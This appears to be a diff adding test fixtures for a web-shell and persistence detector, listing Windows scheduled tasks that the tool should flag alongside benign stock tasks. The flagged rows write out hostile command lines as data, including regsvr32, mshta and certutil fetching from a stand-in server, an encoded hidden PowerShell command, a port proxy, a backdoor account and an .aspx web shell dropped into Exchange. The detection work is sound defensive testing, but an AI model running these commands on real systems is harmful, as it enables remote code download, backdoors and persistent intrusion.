@@ -1,0 +1,109 @@
+# ruff: noqa: E501 - one row is one line
+"""Rows of tasks, WMI, BITS, start-up folders, and of witnesses besides pages and logs."""
+
+from __future__ import annotations
+
+from functools import partial
+from typing import Final
+
+from tests.builders.tasks import job_file, task_file
+from tests.persistence.plants import Change, Plant, added, honest, plant
+from webshellhunt.model.verdict import Disposition
+
+TASKS: Final = "C/Windows/System32/Tasks"
+OF_WINDOWS: Final = f"{TASKS}/Microsoft/Windows"
+_NGEN: Final = "{84F0FAE1-C27B-4F6F-807B-28CF6F96287D}"
+_UNKNOWN: Final = "{5B1C9D2E-7A44-4F0B-9E21-0C3D5A6B7F80}"
+_EVERY_5_MINUTES: Final = "<TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition></TimeTrigger>"
+_POWERSHELL: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+_ENCODED: Final = "-NoP -W Hidden -e·nc SQBuAGUAcgB0ACAAdABlAHgAdAAgAG8AbgBsAHkALgAgAEkAbgBlAHIAdAA="
+
+
+def task(path: str, command: str = "", arguments: str = "", **more: str) -> Change:
+    """Return the change that adds a task."""
+    return added(f"{TASKS}/{path}", partial(task_file, command, arguments, **more))
+
+
+def _of_windows(path: str, command: str = "", arguments: str = "", **more: str) -> Change:
+    return task(f"Microsoft/Windows/{path}", command, arguments, **more)
+
+
+_ODD_TASKS = {
+    "public folder": (r"C:\Users\Public\u.exe", ""),
+    "ProgramData itself": (r"C:\ProgramData\svc.exe", "-k"),
+    "web folder": (r"C:\inetpub\wwwroot\aspnet_client\w.exe", ""),
+    "folder of IIS": (r"C:\Windows\System32\inetsrv\iisw.exe", ""),
+    "encoded command": (_POWERSHELL, _ENCODED),
+    "encoded command by cmd": ("cmd.exe", f"/c start /b powershell {_ENCODED}"),
+    "script in temporary folder": (_POWERSHELL, r"-ep bypass -f C:\Windows\Temp\a.ps1"),
+    "script host in public folder": ("wscript.exe", r"//b C:\Users\Public\a.vbs"),
+    "rundll32 of System32": (r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\wshelp.dll,Start"),
+    "rundll32 of ProgramData": ("rundll32", r"C:\ProgramData\Vendor\a.dat,Start"),
+    "regsvr32 of a server": ("regsvr32.exe", "/s /n /u /i:ht·tp://192.0.2.7/a.sct scrobj.dll"),
+    "mshta of a server": ("mshta.exe", "ht·tp://192.0.2.7/a.hta"),
+    "msbuild of a project": (
+        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
+        r"C:\Windows\Temp\a.csproj",
+    ),
+    "installutil": (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe", r"/U C:\Tools\a.dll"),
+    "certutil of a server": ("certutil.exe", r"-url·cache -split -f ht·tp://192.0.2.7/a.txt C:\Tools\a.exe"),
+    "share by address": (r"\\192.0.2.7\c$\a.exe", ""),
+    "profile as SYSTEM": (r"C:\Users\exadmin\AppData\Roaming\a.exe", ""),
+    "script in System32": (_POWERSHELL, r"-ep bypass -f C:\Windows\System32\wupd.ps1"),
+    "port proxy": ("netsh.exe", "interface port·proxy add v4tov4 listenport=8443 connectport=3389 connectaddress=192.0.2.7"),
+    "account": ("net.exe", "us·er support Passw0rd /add"),
+    "a page written": (
+        "cmd.exe",
+        r"/c copy C:\Tools\a.txt C:\PROGRA~1\Microsoft\EXCHAN~1\V15\FrontEnd\HttpProxy\owa\auth\e.aspx",
+    ),
+    "configuration written": (r"C:\Windows\System32\inetsrv\appcmd.exe", "add module /name:W /type:W.M,W"),
+}  # fmt: skip
+
+PLANTS: tuple[Plant, ...] = (
+    *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
+    plant(
+        42,
+        "task: hidden in ProgramData",
+        "WSH4018",
+        task("Vendor Update", r"C:\ProgramData\Vendor\u.exe", settings="<Hidden>true</Hidden>"),
+    ),
+    plant(42, "task: of another width", "WSH4018", added("C/Windows/SysWOW64/Tasks/U", partial(task_file, *_ODD_TASKS["public folder"]))),
+    plant(42, "task: old file", "WSH4018", added("C/Windows/Tasks/At1.job", partial(job_file, r"C:\PerfLogs\a.exe"))),
+    plant(42, "task: name of Windows, PowerShell", "WSH4080", _of_windows("Defrag/ScheduledDefrag", _POWERSHELL, r"-f C:\Scripts\a.ps1")),
+    plant(42, "task: name of Windows, program", "WSH4080", _of_windows("Chkdsk/ProactiveScan", r"C:\Program Files\Vendor\a.exe")),
+    plant(42, "task: name of Windows, arguments", "WSH4080", _of_windows("Autochk/Proxy", r"%windir%\system32\rundll32.exe", "/d acproxy2.dll,Run")),
+    plant(42, "task: name of Windows, class", "WSH4080", _of_windows("Registry/RegIdleBackup", class_id=_UNKNOWN)),
+    plant(15, "task: NGEN with another class", "WSH4080", _of_windows(".NET Framework/.NET Framework NGEN v4.0.30319", class_id=_UNKNOWN)),
+    plant(42, "task: among those of Windows, PowerShell", "WSH4080", _of_windows("WDI/SrvHost", _POWERSHELL, r"-f C:\Scripts\a.ps1")),
+    plant(42, "task: among those of Windows, class", "WSH4080", _of_windows("Bluetooth/UpdateDeviceTask", class_id=_UNKNOWN)),
+    plant(42, "task: among those of Windows, cmd", "WSH4080", _of_windows("SrvCheck", "cmd.exe", "/c start C:\\Tools\\a.exe", triggers=_EVERY_5_MINUTES)),
+    plant(42, "task: unknown class", "WSH4080", task("Updater", class_id=_UNKNOWN)),
+    plant(
+        42,
+        "task: among those of Windows, program",
+        "WSH4080",
+        _of_windows("SrvCheck", r"C:\Windows\System32\srvchk.exe"),
+        least=Disposition.UNEXPLAINED,
+        why="the table does not have the tasks of all features of Windows Server",
+    ),
+    honest(42, "task: updater in Program Files", task("GoogleUpdaterTaskSystem", r"C:\Program Files (x86)\Google\GoogleUpdater\updater.exe", "--wake --system")),
+    honest(42, "task: stock, defragmentation", _of_windows("Defrag/ScheduledDefrag", r"%windir%\system32\defrag.exe", "-c -h -k -g -$")),
+    honest(42, "task: stock, NGEN", _of_windows(".NET Framework/.NET Framework NGEN v4.0.30319", class_id=_NGEN, settings="<Hidden>true</Hidden>")),
+    honest(42, "task: stock, rundll32", _of_windows("Autochk/Proxy", r"%windir%\system32\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations")),
+    honest(42, "task: stock, with quotes and drive", _of_windows("WindowsUpdate/Scheduled Start", r'"C:\Windows\system32\sc.exe"', "start wuauserv")),
+    honest(42, "task: stock, script host", _of_windows("Server Manager/CleanupOldPerfLogs", r"%systemroot%\system32\cscript.exe", r"/B /nologo %systemroot%\system32\calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)")),
+    honest(42, "task: stock, class unknown to the table", _of_windows("TaskScheduler/Regular Maintenance", class_id=_UNKNOWN)),
+    honest(42, "task: stock, Defender", _of_windows("Windows Defender/Windows Defender Cleanup", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup")),
+    honest(42, "task: backup of Windows Server", _of_windows("Backup/Microsoft-Windows-WindowsBackup", r"%windir%\System32\wbadmin.exe", "start backup -templateId:{7ebb4591-9c90-453e-b961-1607a5656f03} -quiet")),
+    honest(42, "task: logs of IIS are cleaned by PowerShell", task("Clean logs", "powershell.exe", r'-ExecutionPolicy Bypass -File "C:\Scripts\Clean-Logs.ps1" -Path C:\inetpub\logs\LogFiles -Days 30')),
+    honest(42, "task: logs of IIS are cleaned by forfiles", task("Clean logs", "forfiles.exe", r'/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"')),
+    honest(42, "task: temporary files are removed", task("Clean temp", "powershell.exe", r'-NoProfile -Command "Get-ChildItem C:\Windows\Temp -Recurse | Remove-Item -Force"')),
+    honest(42, "task: report of Exchange", task("Mailbox report", _POWERSHELL, r'''-NonInteractive -WindowStyle Hidden -Command ". 'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto; C:\Scripts\Report.ps1"''')),
+    honest(42, "task: a service is started anew", task("Restart transport", "net.exe", "start MSExchangeTransport")),
+    honest(42, "task: job of PowerShell", _of_windows("PowerShell/ScheduledJobs/Report", "powershell.exe", r'''-NoLogo -NonInteractive -WindowStyle Hidden -Command "Import-Module PSScheduledJob; $jobDef = [Microsoft.PowerShell.ScheduledJob.ScheduledJobDefinition]::LoadFromStore('Report', 'C:\Users\exadmin\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs'); $jobDef.Run()"''')),
+    honest(42, "task: collector of performance data", _of_windows("PLA/Exchange", r"C:\Windows\system32\rundll32.exe", r'C:\Windows\system32\pla.dll,PlaHost "Exchange" "$(Arg0)"')),
+    honest(42, "task: OneDrive of a user", task("OneDrive Standalone Update Task-S-1-5-21-1-2-3-1000", r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", account="S-1-5-21-1-2-3-1000")),
+    honest(42, "task: library of a printer", task("Printer", "rundll32.exe", r'"C:\Program Files\HP\HP Printer\Bin\HPStatus.dll",Run')),
+    honest(42, "task: share of the domain", task("Inventory", r"\\contoso.example\netlogon\inventory.exe"), most=Disposition.UNEXPLAINED),
+    honest(42, "task: product in ProgramData", task("Vendor", r"C:\ProgramData\Vendor\Agent\u.exe", "-s"), most=Disposition.UNEXPLAINED),
+)  # fmt: skip
